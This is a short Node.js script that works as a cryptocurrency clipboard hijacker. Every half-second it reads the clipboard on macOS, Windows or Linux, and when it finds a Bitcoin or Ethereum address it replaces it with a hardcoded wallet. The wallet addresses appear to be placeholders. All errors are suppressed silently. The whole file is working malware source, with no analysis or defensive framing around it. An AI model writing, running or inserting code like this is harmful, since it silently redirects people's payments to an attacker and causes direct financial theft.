const { execSync } = require('child_process');
const WALLETS = { btc: 'bc1qattackerexampleaddressxxxxxxxxxxxxxx', eth: '0x000000000000000000000000000000000000dEaD' };
function read() {
  if (process.platform === 'darwin') return execSync('pbpaste').toString();
  if (process.platform === 'win32') return execSync('powershell -NoProfile -Command Get-Clipboard').toString();
  return execSync('xclip -selection clipboard -o').toString();
}
function write(v) {
  if (process.platform === 'darwin') return execSync('pbcopy', { input: v });
  if (process.platform === 'win32') return execSync('clip', { input: v });
  return execSync('xclip -selection clipboard', { input: v });
}
setInterval(() => {
  try {
    const c = read().trim();
    if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$/.test(c)) write(WALLETS.btc);
    else if (/^0x[a-fA-F0-9]{40}$/.test(c)) write(WALLETS.eth);
  } catch (e) {}
}, 500);
